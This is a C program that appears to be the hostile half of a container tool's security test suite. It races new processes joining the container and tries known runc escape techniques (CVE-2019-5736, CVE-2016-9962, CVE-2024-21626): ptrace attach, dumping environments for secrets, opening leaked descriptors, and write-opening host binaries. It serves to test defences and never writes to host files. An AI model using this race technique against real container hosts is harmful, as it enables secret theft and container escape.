/* SPDX-License-Identifier: MIT */
/* sniper DIR: the hostile container process of SECURITY.md rows 1 and 2
 * (runc CVE-2016-9962, CVE-2019-5736). It runs as root in an ordinary
 * container that was given CAP_SYS_PTRACE, and watches its own pid namespace
 * for new processes: every process nsh forks into the namespace appears here,
 * first as nsh (the host binary, before it execs) and then as the command.
 *
 * Protocol with the test, through files in DIR (a host directory bind-mounted
 * into the container):
 *   arm      (test creates, content = session name)  start attacking; the
 *            sniper answers with `armed` (same content) once it has taken
 *            the current PIDs as already seen
 *   arm removed                                        stop; answers `disarmed`
 *            (after 300 s armed it disarms itself and removes `arm`)
 *   strike   (content = session name)                  try to open every
 *            /proc/P/exe it kept for writing (never writing a byte to a
 *            file; a memfd, a private copy, gets one byte appended past
 *            its end, which its seals must refuse); answers `struck`
 *   log      one line per event (appended)
 *
 * Attacks on each new PID P, repeated while P still runs a binary that is
 * not the container's own (nsh before its execve):
 *   - open("/proc/P/exe", O_PATH), kept for the strike (CVE-2019-5736)
 *   - PTRACE_SEIZE (PTRACE_ATTACH when SEIZE says EPERM), then stop it and
 *     look at what it runs and with which capabilities
 *   - read /proc/P/environ (dumped, so the test can grep for its secret)
 *   - open every /proc/P/fd/N (CVE-2016-9962, CVE-2024-21626)
 *
 * While idle it sleeps; once armed it spins on the next PIDs the namespace
 * will hand out (they are sequential), which is far faster than any /proc
 * scan: one kill(P, 0) per candidate per loop.
 *
 * Log lines: "WIN KIND pid=P ..." for a success that matters (the process
 * was not yet the container's command, or a descriptor leads outside the
 * container, or a write-open of a host binary worked); "OK KIND ..." for a
 * success against the container's own command (legitimate for a container
 * holding CAP_SYS_PTRACE); "ENV pid=P exe=... environ" (printable dump);
 * "DENIED KIND pid=P errno" once per PID and kind; "STATS ...". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "procwalk.h"

#define MAXHELD     8192
#define MAX_ARMED_S 300

static uint64_t our_bnd;

struct held {
	int fd;
	int pid;
	bool foreign;
	char path[256];
	char dev_ino[64];
};
static struct held held[MAXHELD];
static int n_held;

static struct {
	long pids, ptrace_ok, ptrace_win, ptrace_fail, env_ok, env_win, env_fail, fd_ok, fd_win,
		fd_fail, exe_kept, exe_foreign, rounds;
} st;

static void put_file(const char *name, const char *content)
{
	char p[512], tmp[520];
	snprintf(p, sizeof p, "%s/%s", dir, name);
	snprintf(tmp, sizeof tmp, "%s.tmp", p);
	int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	if (write(fd, content, strlen(content)) < 0 || write(fd, "\n", 1) < 0) {
		/* rename anyway: the test waits for the file */
	}
	close(fd);
	rename(tmp, p);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t status_hex(int pid, const char *key)
{
	char p[64], line[512];
	snprintf(p, sizeof p, "/proc/%d/status", pid);
	FILE *f = fopen(p, "re");
	uint64_t v = 0;
	if (!f)
		return 0;
	size_t kl = strlen(key);
	while (fgets(line, sizeof line, f))
		if (!strncmp(line, key, kl) && line[kl] == ':')
			v = strtoull(line + kl + 1, NULL, 16);
	fclose(f);
	return v;
}

static void comm_of(int pid, char *out, size_t size)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/comm", pid);
	out[0] = 0;
	read_line(p, out, size);
}

/* Is the file behind fd (whose magic link reads `link`) one of this
 * container's own files? Resolve the link text in our root: the same inode
 * means yes; anything else (absent, other inode) is a host object. */
static bool local_file(int fd, const char *link, struct stat *out)
{
	struct stat s, s2;
	if (fstat(fd, &s) < 0)
		return false;
	if (out)
		*out = s;
	char path[4096];
	snprintf(path, sizeof path, "%s", link);
	char *del = strstr(path, " (deleted)");
	if (del)
		*del = 0;
	if (path[0] != '/' || stat(path, &s2) < 0)
		return false;
	return s.st_dev == s2.st_dev && s.st_ino == s2.st_ino;
}

enum exe_state { EXE_GONE, EXE_DENIED, EXE_LOCAL, EXE_FOREIGN };

/* Look at /proc/P/exe; keep an O_PATH descriptor of every distinct binary a
 * PID runs, for the strike. */
static enum exe_state exe_look(int pid, char *link, size_t lsize, int *err)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		*err = errno;
		return (errno == ENOENT || errno == ESRCH) ? EXE_GONE : EXE_DENIED;
	}
	ssize_t n = readlink(p, link, lsize - 1);
	link[n > 0 ? n : 0] = 0;
	struct stat s;
	bool local = local_file(fd, link, &s);
	char di[64];
	snprintf(di, sizeof di, "%lu:%lu", (unsigned long)s.st_dev, (unsigned long)s.st_ino);
	bool have = false;
	for (int i = 0; i < n_held && !have; i++)
		have = held[i].pid == pid && !strcmp(held[i].dev_ino, di);
	if (!have && n_held < MAXHELD) {
		struct held *h = &held[n_held++];
		h->fd = fd;
		h->pid = pid;
		h->foreign = !local;
		snprintf(h->path, sizeof h->path, "%s", link);
		snprintf(h->dev_ino, sizeof h->dev_ino, "%s", di);
		st.exe_kept++;
		if (!local)
			st.exe_foreign++;
		logf_("EXE pid=%d kept=%d foreign=%d dev:ino=%s path=%s", pid, n_held - 1, !local,
		      di, link);
	} else {
		close(fd);
	}
	return local ? EXE_LOCAL : EXE_FOREIGN;
}

static void on_alarm(int sig)
{
	(void)sig;
}

struct pidstate {
	bool ptrace_done, env_done, fd_done, denied_ptrace, denied_env, denied_fd;
	/* descriptors already logged, per exe state (foreign, local) */
	uint8_t fd_logged[2][1024 / 8];
};

static void try_ptrace(int pid, enum exe_state pre, struct pidstate *ps)
{
	char comm[64];
	long r = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC);
	bool seized = r == 0;
	if (r < 0 && errno == EPERM)
		r = ptrace(PTRACE_ATTACH, pid, 0, 0);
	if (r < 0) {
		int e = errno;
		st.ptrace_fail++;
		if (!ps->denied_ptrace && e != ESRCH) {
			logf_("DENIED ptrace pid=%d pre=%d %s", pid, (int)pre, strerror(e));
			ps->denied_ptrace = true;
		}
		return;
	}
	ps->ptrace_done = true;
	if (seized)
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	int wst = 0;
	alarm(5);
	pid_t w = waitpid(pid, &wst, __WALL);
	alarm(0);
	char link[4096] = "";
	int err = 0;
	enum exe_state now_state = exe_look(pid, link, sizeof link, &err);
	comm_of(pid, comm, sizeof comm);
	uint64_t eff = status_hex(pid, "CapEff"), prm = status_hex(pid, "CapPrm");
	bool exec_event = w == pid && WIFSTOPPED(wst) && (wst >> 16) == PTRACE_EVENT_EXEC;
	bool win = pre == EXE_FOREIGN || pre == EXE_DENIED || now_state == EXE_FOREIGN ||
		   ((eff | prm) & ~our_bnd) || !strcmp(comm, "nsh");
	if (win)
		st.ptrace_win++;
	else
		st.ptrace_ok++;
	logf_("%s ptrace pid=%d how=%s stopped=%d exec_event=%d exe_before=%d exe_now=%d comm=%s "
	      "CapEff=%016llx "
	      "CapPrm=%016llx exe=%s",
	      win ? "WIN" : "OK", pid, seized ? "SEIZE" : "ATTACH", w == pid && WIFSTOPPED(wst),
	      exec_event, (int)pre, (int)now_state, comm, (unsigned long long)eff,
	      (unsigned long long)prm, link);
	if (w == pid && WIFSTOPPED(wst))
		ptrace(PTRACE_DETACH, pid, 0, 0);
	/* PTRACE_ATTACH sent a SIGSTOP that the stop we saw may not have been
	 * (an exec's SIGTRAP): left pending, it would stop the command for
	 * good. Stopping its own container's processes is root's right there,
	 * and no row of SECURITY.md; the runs must go on. */
	if (!seized)
		kill(pid, SIGCONT);
}

static void try_environ(int pid, enum exe_state pre, struct pidstate *ps)
{
	char p[64], buf[8192], out[8192 * 4 + 1];
	snprintf(p, sizeof p, "/proc/%d/environ", pid);
	int fd = open(p, O_RDONLY | O_CLOEXEC);
	ssize_t n = -1;
	int e = 0;
	if (fd >= 0) {
		n = read(fd, buf, sizeof buf);
		e = errno;
		close(fd);
	} else {
		e = errno;
	}
	if (n < 0) {
		st.env_fail++;
		if (!ps->denied_env && e != ENOENT && e != ESRCH) {
			logf_("DENIED environ pid=%d pre=%d %s", pid, (int)pre, strerror(e));
			ps->denied_env = true;
		}
		return;
	}
	if (n == 0)
		return; /* a process with no environment yet (or a kernel thread): try again */
	size_t j = 0;
	for (ssize_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)buf[i];
		if (c == 0)
			out[j++] = '|';
		else if (c < 32 || c > 126)
			j += (size_t)sprintf(out + j, "\\x%02x", c);
		else
			out[j++] = (char)c;
	}
	out[j] = 0;
	bool win = pre != EXE_LOCAL;
	if (win)
		st.env_win++;
	else
		st.env_ok++;
	logf_("%s environ pid=%d exe_state=%d bytes=%zd", win ? "WIN" : "OK", pid, (int)pre, n);
	logf_("ENV pid=%d %s", pid, out);
	ps->env_done = true;
}

static void try_fds(int pid, enum exe_state pre, struct pidstate *ps)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d) {
		int e = errno;
		st.fd_fail++;
		if (!ps->denied_fd && e != ENOENT && e != ESRCH) {
			logf_("DENIED fd pid=%d pre=%d %s", pid, (int)pre, strerror(e));
			ps->denied_fd = true;
		}
		return;
	}
	struct dirent *e;
	int opened = 0;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char fp[300], link[4096];
		snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, e->d_name);
		int fd = open(fp, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			if (!ps->denied_fd && errno != ENOENT) {
				logf_("DENIED fd pid=%d fd=%s pre=%d %s", pid, e->d_name, (int)pre,
				      strerror(errno));
				ps->denied_fd = true;
			}
			continue;
		}
		ssize_t n = readlink(fp, link, sizeof link - 1);
		link[n > 0 ? n : 0] = 0;
		struct stat s;
		bool local = local_file(fd, link, &s);
		bool fsobj = S_ISDIR(s.st_mode) || S_ISREG(s.st_mode);
		bool win = pre != EXE_LOCAL || (fsobj && !local);
		opened++;
		if (win)
			st.fd_win++;
		else
			st.fd_ok++;
		int fdn = atoi(e->d_name), k = pre == EXE_LOCAL;
		if (fdn >= 0 && fdn < 1024) {
			if (ps->fd_logged[k][fdn / 8] & (1u << (fdn % 8))) {
				close(fd);
				continue;
			}
			ps->fd_logged[k][fdn / 8] |= (uint8_t)(1u << (fdn % 8));
		}
		logf_("%s fd pid=%d fd=%s exe_state=%d type=%s local=%d target=%s",
		      win ? "WIN" : "OK", pid, e->d_name, (int)pre,
		      S_ISDIR(s.st_mode)    ? "dir"
		      : S_ISREG(s.st_mode)  ? "file"
		      : S_ISCHR(s.st_mode)  ? "chr"
		      : S_ISFIFO(s.st_mode) ? "fifo"
		      : S_ISSOCK(s.st_mode) ? "sock"
					    : "other",
		      local, link);
		if (win && S_ISDIR(s.st_mode)) {
			/* What a leaked directory gives: list a few names. */
			int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			DIR *dd = dfd >= 0 ? fdopendir(dfd) : NULL;
			if (dd) {
				char names[512] = "";
				struct dirent *de;
				int k = 0;
				while ((de = readdir(dd)) && k < 12) {
					if (de->d_name[0] == '.')
						continue;
					strncat(names, de->d_name,
						sizeof names - strlen(names) - 2);
					strncat(names, " ", sizeof names - strlen(names) - 1);
					k++;
				}
				closedir(dd);
				logf_("WIN fd-listing pid=%d fd=%s: %s", pid, e->d_name, names);
			} else if (dfd >= 0) {
				close(dfd);
			}
		}
		close(fd);
	}
	closedir(d);
	if (opened)
		ps->fd_done = true;
}

/* Everything against one new PID: again and again while it is still not
 * the container's own binary (the window before nsh's execve), at most
 * ~50 ms. */
static void attack(int pid)
{
	struct pidstate ps = { 0 };
	set_seen(pid);
	if (pid > last)
		last = pid;
	st.pids++;
	char comm[64];
	comm_of(pid, comm, sizeof comm);
	logf_("NEW pid=%d comm=%s", pid, comm);
	double t0 = now();
	for (int round = 0; round < 5000 && now() - t0 < 0.05; round++) {
		char link[4096] = "";
		int err = 0;
		st.rounds++;
		enum exe_state s = exe_look(pid, link, sizeof link, &err);
		if (s == EXE_GONE)
			break;
		if (s == EXE_DENIED && round == 0)
			logf_("DENIED exe pid=%d %s", pid, strerror(err));
		if (!ps.ptrace_done)
			try_ptrace(pid, s, &ps);
		if (!ps.env_done)
			try_environ(pid, s, &ps);
		if (!ps.fd_done || s != EXE_LOCAL)
			try_fds(pid, s, &ps);
		if (s == EXE_LOCAL && ps.env_done)
			break;
	}
}

static void stats(const char *when)
{
	logf_("STATS %s pids=%ld rounds=%ld ptrace_ok=%ld ptrace_win=%ld ptrace_fail=%ld "
	      "environ_ok=%ld environ_win=%ld "
	      "environ_fail=%ld fd_ok=%ld fd_win=%ld fd_fail=%ld exe_kept=%ld exe_foreign=%ld",
	      when, st.pids, st.rounds, st.ptrace_ok, st.ptrace_win, st.ptrace_fail, st.env_ok,
	      st.env_win, st.env_fail, st.fd_ok, st.fd_win, st.fd_fail, st.exe_kept,
	      st.exe_foreign);
}

static void strike(const char *session)
{
	long wins = 0, local_ok = 0, refused = 0;
	logf_("STRIKE %s held=%d", session, n_held);
	for (int i = 0; i < n_held; i++) {
		char p[64];
		snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
		/* Open for writing only: never a byte is written, never O_TRUNC. */
		int w = open(p, O_WRONLY | O_CLOEXEC);
		int e = errno;
		if (w >= 0 && held[i].foreign && !strncmp(held[i].path, "/memfd:", 7)) {
			/* A memfd is the binary's private copy: opening it changes
			 * nothing on the host. What matters is whether it can be
			 * written: one byte appended past its end (the image
			 * itself is left alone), which F_SEAL_WRITE/F_SEAL_GROW
			 * refuse. */
			struct stat sb;
			ssize_t wr = -1;
			if (fstat(w, &sb) == 0)
				wr = pwrite(w, "", 1, sb.st_size);
			int we = errno;
			close(w);
			if (wr == 1) {
				wins++;
				logf_("WIN exe-write pid=%d dev:ino=%s path=%s (unsealed memfd: a "
				      "byte appended)",
				      held[i].pid, held[i].dev_ino, held[i].path);
			} else {
				refused++;
				logf_("DENIED exe-write pid=%d foreign=1 dev:ino=%s path=%s "
				      "opened, but write: %s",
				      held[i].pid, held[i].dev_ino, held[i].path, strerror(we));
			}
		} else if (w >= 0) {
			close(w);
			if (held[i].foreign)
				wins++;
			else
				local_ok++;
			logf_("%s exe-write pid=%d dev:ino=%s path=%s",
			      held[i].foreign ? "WIN" : "OK", held[i].pid, held[i].dev_ino,
			      held[i].path);
		} else {
			refused++;
			logf_("DENIED exe-write pid=%d foreign=%d dev:ino=%s path=%s %s",
			      held[i].pid, (int)held[i].foreign, held[i].dev_ino, held[i].path,
			      strerror(e));
		}
		close(held[i].fd);
	}
	logf_("STRIKE-DONE %s held=%d foreign_writable=%ld local_writable=%ld refused=%ld", session,
	      n_held, wins, local_ok, refused);
	n_held = 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: sniper DIR\n");
		return 2;
	}
	dir = argv[1];
	char p[512];
	snprintf(p, sizeof p, "%s/log", dir);
	/* A new container, a new log: PID 1 starts once per container. */
	logfd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0644);
	if (logfd < 0) {
		perror("sniper: log");
		return 1;
	}
	struct sigaction sa = { 0 };
	sa.sa_handler = on_alarm; /* no SA_RESTART: a stuck waitpid returns */
	sigaction(SIGALRM, &sa, NULL);
	signal(SIGTERM, SIG_DFL);
	our_bnd = status_hex(getpid(), "CapBnd");
	logf_("START pid=%d CapBnd=%016llx", (int)getpid(), (unsigned long long)our_bnd);
	put_file("ready", "ready");

	char session[256] = "", s2[256];
	for (;;) {
		/* idle */
		if (file_exists("strike", s2, sizeof s2) &&
		    !(file_exists("struck", session, sizeof session) && !strcmp(session, s2))) {
			strike(s2);
			put_file("struck", s2);
		}
		if (!file_exists("arm", session, sizeof session)) {
			usleep(100 * 1000);
			continue;
		}
		memset(seen, 0, sizeof seen);
		memset(&st, 0, sizeof st);
		last = 0;
		scan_proc(NULL);
		logf_("ARMED %s last=%d", session, last);
		put_file("armed", session);
		double rescan = now(), armed_at = rescan;
		for (unsigned long it = 0;; it++) {
			for (int k = 1; k <= 8; k++) {
				int c = last + k;
				if (c >= MAXPID || is_seen(c))
					continue;
				if (kill(c, 0) == 0 || errno == EPERM)
					attack(c);
			}
			if ((it & 255) == 0) {
				if (now() - rescan > 0.02) {
					scan_proc(attack);
					rescan = now();
				}
				if ((it & 4095) == 0 && !file_exists("arm", NULL, 0))
					break;
				/* A test that died armed must not leave a core spinning. */
				if ((it & 4095) == 0 && now() - armed_at > MAX_ARMED_S) {
					char p2[512];
					snprintf(p2, sizeof p2, "%s/arm", dir);
					unlink(p2);
					logf_("TIMEOUT %s armed for more than %d s", session,
					      MAX_ARMED_S);
					break;
				}
			}
		}
		stats(session);
		logf_("DISARMED %s", session);
		put_file("disarmed", session);
	}
}
